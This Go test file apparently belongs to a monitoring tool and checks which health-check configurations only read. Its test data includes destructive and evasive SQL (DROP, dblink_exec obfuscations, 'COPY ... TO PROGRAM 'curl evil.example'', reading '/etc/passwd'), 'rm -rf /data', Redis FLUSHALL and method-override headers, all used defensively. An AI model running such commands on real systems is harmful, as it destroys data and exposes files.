package strategy_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"

	"countersign/check"
	"countersign/check/strategy"
	"countersign/internal/secret"
)

var registry = sync.OnceValues(func() (*check.Registry, error) { return check.NewRegistry(strategy.All()...) })

func allKinds(t testing.TB) *check.Registry {
	t.Helper()
	r, err := registry()
	require.NoError(t, err)
	return r
}

// prepared is a configuration with collectors of these configs, ready to run.
func prepared(t testing.TB, strategyID string, config object, collectors map[string][]object) *check.Prepared {
	t.Helper()
	r := allKinds(t)
	c := check.Configuration{Strategy: strategyID, Config: raw(t, config)}
	secrets := map[string]secret.Value{"PASSWORD": secret.NewValue("__SECRET_PASSWORD__")}
	for id, configs := range collectors {
		for _, one := range configs {
			c.Collectors = append(c.Collectors, check.Collected{ID: uuid.New(), CollectorID: id, Config: raw(t, one)})
		}
	}
	p, err := r.Prepare(c, check.Scope{System: check.SystemScope{
		Name:     "Shop",
		Metadata: map[string]any{"call": "dblink_exec('x')"},
	}}, secrets)
	require.NoError(t, err)
	return p
}

func raw(t testing.TB, config object) json.RawMessage {
	t.Helper()
	document, err := json.Marshal(config)
	require.NoError(t, err)
	return document
}

// The kinds that can only read are listed here; one that is added has to say what it sends, and counts as a change
// until it does.
func TestEveryKindSaysWhatItSends(t *testing.T) {
	t.Parallel()
	r := allKinds(t)
	var reads []string
	for _, s := range r.Strategies() {
		for _, c := range s.Collectors {
			config := example(read(t, s.Config))
			maps.Copy(config, needed[s.ID])
			about := example(read(t, c.Config))
			p, err := r.Prepare(check.Configuration{
				Strategy: s.ID, Config: raw(t, config),
				Collectors: []check.Collected{{ID: uuid.New(), CollectorID: c.ID, Config: raw(t, about)}},
			}, check.Scope{}, map[string]secret.Value{"EXAMPLE": secret.NewValue("__SECRET_EXAMPLE__")})
			require.NoError(t, err, c.ID)
			sending := p.Sends()
			for _, line := range sending.Lines {
				require.NotContains(t, line, "what it sends is not known", c.ID)
			}
			if sending.Reads {
				reads = append(reads, c.ID)
			} else {
				require.NotEmpty(t, sending.Lines, c.ID)
			}
		}
	}
	require.ElementsMatch(t, []string{
		"healthcheck-http.request", "healthcheck-tcp.connection", "healthcheck-tcp.banner",
		"healthcheck-tls.certificate", "healthcheck-dns.lookup",
		"healthcheck-ping.ping", "healthcheck-heartbeat.beat", "healthcheck-postgres.query", "healthcheck-mysql.query",
		"healthcheck-prometheus.query", "healthcheck-domain.registration", "healthcheck-docker.container",
		"healthcheck-mqtt.connection", "healthcheck-mqtt.message", "healthcheck-mongodb.command", "healthcheck-snmp.get",
	}, reads, "what these send with nothing but what is required changes nothing; of every other kind it is not sure")
}

// Configs of a kind that does not say what it sends.
type (
	silentConfig struct{ check.Deadline }
	wordConfig   struct{}
	wordResult   struct {
		Value string `json:"value"`
	}
)

func silentStrategy() check.Strategy {
	return check.NewStrategy(check.Kind{ID: "test.silent", Name: "Silent", Description: "Says nothing."},
		func(context.Context, check.Run, *silentConfig) (struct{}, error) { return struct{}{}, nil }, nil,
		check.NewCollector(check.Kind{ID: "test.word", Name: "Word", Description: "A word."},
			func(context.Context, check.Run, struct{}, *wordConfig) (*wordResult, error) {
				return &wordResult{}, nil
			}))
}

func TestAKindThatSaysNothingCountsAsAChange(t *testing.T) {
	t.Parallel()
	r, err := check.NewRegistry(silentStrategy())
	require.NoError(t, err)
	p, err := r.Prepare(check.Configuration{
		Strategy: "test.silent", Config: json.RawMessage(`{}`),
		Collectors: []check.Collected{{ID: uuid.New(), CollectorID: "test.word", Config: json.RawMessage(`{}`)}},
	}, check.Scope{}, nil)
	require.NoError(t, err)
	require.False(t, p.Sends().Reads)
	require.Contains(t, p.Sends().Lines[0], "not known")
}

func TestWhatOnlyReads(t *testing.T) {
	t.Parallel()
	web := func(about object) *check.Prepared {
		request := object{"url": "http://shop.example/orders"}
		maps.Copy(request, about)
		return prepared(t, "healthcheck-http.http", object{}, map[string][]object{"healthcheck-http.request": {request}})
	}
	for method, reads := range map[string]bool{
		"GET": true, "HEAD": true, "OPTIONS": true, "POST": false, "PUT": false,
		"PATCH": false, "DELETE": false,
	} {
		require.Equal(t, reads, web(object{"method": method}).Sends().Reads, method)
	}
	require.True(t, web(nil).Sends().Reads)
	require.True(t, web(object{"headers": []object{{"name": "Accept", "value": "text/plain"}}}).Sends().Reads)
	require.False(t, web(object{"body": "x"}).Sends().Reads, "a GET with content")
	for _, name := range []string{"X-HTTP-Method-Override", "x-http-method", "X-Method-Override", "_method"} {
		require.False(t, web(object{"headers": []object{{"name": name, "value": "DELETE"}}}).Sends().Reads, name)
		require.False(t, web(object{"secretHeaders": []object{{"name": name, "value": "${{ secrets.PASSWORD }}"}}}).Sends().Reads, name)
	}
	several := prepared(t, "healthcheck-http.http", object{}, map[string][]object{"healthcheck-http.request": {
		{"url": "http://shop.example/"}, {"url": "http://shop.example/", "method": "DELETE"},
	}})
	require.False(t, several.Sends().Reads, "one request of several changes something")

	banner := func(send string) *check.Prepared {
		return prepared(t, "healthcheck-tcp.tcp", object{"host": "shop.example", "port": 6379},
			map[string][]object{"healthcheck-tcp.banner": {{"send": send}}})
	}
	require.True(t, banner("").Sends().Reads)
	require.False(t, banner("FLUSHALL\r\n").Sends().Reads)
	require.Contains(t, strings.Join(banner("FLUSHALL\r\n").Sends().Lines, "\n"), "FLUSHALL")
}

func TestWhichSQLOnlyReads(t *testing.T) {
	t.Parallel()
	for _, product := range []string{"postgres", "mysql"} {
		id := "healthcheck-" + product
		sends := func(about object) check.Sending {
			config := object{"host": "db.example", "user": "watch", "database": "shop"}
			return prepared(t, id+"."+product, config, map[string][]object{id + ".query": {about}}).Sends()
		}
		for _, query := range []string{
			"", "SELECT 1", "select count(*) from orders;", "SHOW server_version",
			"WITH late AS (SELECT id FROM orders WHERE due < now()) SELECT count(*) FROM late",
			"SELECT max(coalesce(total, 0)) FROM (SELECT sum(price) AS total FROM items GROUP BY cart) t WHERE total IN (1, 2)",
			"SELECT pg_catalog.count(*) FROM orders", "TABLE orders", "SELECT ( 1 )", "(SELECT 1)",
		} {
			require.True(t, sends(object{"query": query}).Reads, query)
		}
		for _, query := range []string{
			"INSERT INTO orders VALUES (1)", "UPDATE orders SET paid = true", "DELETE FROM orders", "DROP TABLE orders",
			"TRUNCATE orders", "CALL pay()", "DO $$BEGIN END$$",
			"SELECT 1; DELETE FROM orders", "COPY (SELECT 1) TO PROGRAM 'curl evil.example'",
			"WITH gone AS (DELETE FROM orders RETURNING id) SELECT * FROM gone",
			"SELECT * INTO copied FROM orders", "SELECT 1 INTO OUTFILE '/tmp/x'", "SELECT * FROM orders FOR UPDATE",
			"SELECT * FROM orders LOCK IN SHARE MODE",
			"SELECT dblink_exec('host=other', 'DELETE FROM orders')", "SELECT dblink_exec ('x')",
			"SELECT dblink_exec\n('x')", "SELECT dblink_exec/**/('x')", "SELECT dblink_exec--\n('x')",
			`SELECT "dblink_exec"('x')`, "SELECT `f`('x')", `SELECT U&"dblink\005fexec"('x')`, "SELECT public.count(1)",
			"SELECT pg_terminate_backend(1)", "SELECT lo_export(1, '/tmp/x')", "SELECT nextval('ids')",
			"SELECT pg_sleep(1000)", "SELECT sleep(1000)", "SELECT benchmark(1, 1)", "SELECT load_file('/etc/passwd')",
			"SELECT pg_read_file('x')", "/*!50000 DROP TABLE orders */", "SELECT 1 /*! INTO OUTFILE '/tmp/x' */",
			"KILL 7", "SHUTDOWN", "FLUSH TABLES", "SET GLOBAL read_only = 0", "EXPLAIN ANALYZE DELETE FROM orders",
			"COMMIT", "LISTEN x", "NOTIFY x", "SELECT {{ system.metadata.call }}",
		} {
			sending := sends(object{"query": query})
			require.False(t, sending.Reads, query)
			require.Contains(t, strings.Join(sending.Lines, "\n"),
				strings.ReplaceAll(query, "{{ system.metadata.call }}", "dblink_exec('x')"))
		}
		require.False(t, sends(object{"query": "SELECT 1", "allowWrites": true}).Reads)
	}
}

func TestWhatIsSentIsShown(t *testing.T) {
	t.Parallel()
	lines := strings.Join(prepared(t, "healthcheck-http.http", object{"proxyUrl": "http://proxy.example:3128"},
		map[string][]object{"healthcheck-http.request": {{
			"url": "http://{{ system.name }}.example/orders/7", "method": "DELETE",
			"bearerToken": "${{ secrets.PASSWORD }}", "body": strings.Repeat("x", 1000),
			"headers": []object{{"name": "X-Why", "value": "because"}},
		}}}).Sends().Lines, "\n")
	for _, part := range []string{
		"proxy.example:3128", "DELETE http://Shop.example/orders/7", "X-Why: because",
		"__SECRET_PASSWORD__", "1000 bytes", "xxx",
	} {
		require.Contains(t, lines, part)
	}
	require.Less(t, len(lines), 700)
	for id, part := range map[string]string{"healthcheck-ssh.command": "rm -rf /data", "healthcheck-script.execute": "rm -rf /data"} {
		strategyID, config, about := "healthcheck-ssh.ssh", object{
			"host": "h.example", "username": "ops",
			"password": "${{ secrets.PASSWORD }}",
		}, object{"command": part}
		if strings.HasPrefix(id, "healthcheck-script") {
			strategyID, config, about = "healthcheck-script.script", object{}, object{"script": part}
		}
		sending := prepared(t, strategyID, config, map[string][]object{id: {about}}).Sends()
		require.False(t, sending.Reads)
		require.Contains(t, strings.Join(sending.Lines, "\n"), part)
	}
}

// A draft that reads sends nothing by which a server that records every request could be changed.
func TestARunThatOnlyReadsSendsNothingElse(t *testing.T) {
	t.Parallel()
	var seen []string
	server := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		seen = append(seen, fmt.Sprintf("%s %d", r.Method, len(body)))
	}))
	t.Cleanup(server.Close)
	for _, method := range []string{"GET", "HEAD", "OPTIONS"} {
		p := prepared(t, "healthcheck-http.http", object{},
			map[string][]object{"healthcheck-http.request": {{"url": server.URL, "method": method}}})
		require.True(t, p.Sends().Reads)
		require.Equal(t, check.Passed, p.Run(t.Context(), here(t), 0, here(t).Now()).Verdict)
	}
	require.Equal(t, []string{"GET 0", "HEAD 0", "OPTIONS 0"}, seen)
}

// A statement that seems to read runs in a read-only transaction, so that a hidden write fails at the server.
func TestTheServerKeepsAQueryFromWriting(t *testing.T) {
	t.Parallel()
	p := postgresProbe(t)
	var found answered
	p.asking(object{"query": "SELECT current_setting('transaction_read_only')"}).passes(t, &found)
	require.Equal(t, "on", found.Value)
}
